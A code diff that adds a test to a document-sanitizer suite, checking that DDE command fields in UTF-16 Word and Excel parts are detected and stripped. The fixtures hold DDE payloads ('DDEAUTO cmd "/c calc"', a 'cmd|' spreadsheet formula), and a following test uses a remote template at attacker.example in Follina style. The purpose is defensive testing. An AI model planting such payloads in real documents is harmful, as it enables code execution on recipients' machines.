@@ -171,6 +171,45 @@ describe('OOXML rebuild', () => {
     expect(text).toContain('<d:t xml:space="preserve">under a prefix</d:t>');
   });
 
+  it('finds fields and formulas in UTF-16 parts too, and writes the parts as UTF-8', async () => {
+    const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+    const utf16 = (text: string, bigEndian = false): Buffer => {
+      const little = Buffer.from(`\uFEFF${text}`, 'utf16le');
+      return bigEndian ? Buffer.from(little).swap16() : little;
+    };
+    const document = await buildOpcPackage(
+      [
+        {
+          name: 'word/document.xml',
+          contentType: OOXML_MAIN_TYPES.docx,
+          data: utf16(
+            `<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Grüße</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
+          ),
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
+    );
+    const word = cleaned(await disarm({ bytes: document, fileName: 'a.docx' }));
+    expect(findingsOf(word)).toEqual({ 'dde-link': 1 });
+    const wordText = (await unzipped(word.bytes)).text;
+    expect(wordText).not.toMatch(/DDE|calc|instrText/);
+    // UTF-8 now (the text is read back as latin1).
+    expect(wordText).toContain(`<w:t>${Buffer.from('Grüße').toString('latin1')}</w:t>`);
+    const book = await workbookOf([
+      {
+        data: utf16(
+          `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c></row></sheetData></worksheet>`,
+          true,
+        ),
+      },
+    ]);
+    const excel = cleaned(await disarm({ bytes: book, fileName: 'a.xlsx' }));
+    expect(findingsOf(excel)).toEqual({ 'dde-link': 1 });
+    const excelText = (await unzipped(excel.bytes)).text;
+    expect(excelText).not.toMatch(/cmd\||<f>/);
+    expect(excelText).toContain('<v>0</v>');
+  });
+
   it('removes the Follina family: remote templates, OLE links to mhtml:/ms-msdt:, unsafe hyperlinks', async () => {
     const input = await buildWordDocument('docx', {
       attachedTemplate: 'http://attacker.example/t.dotm',
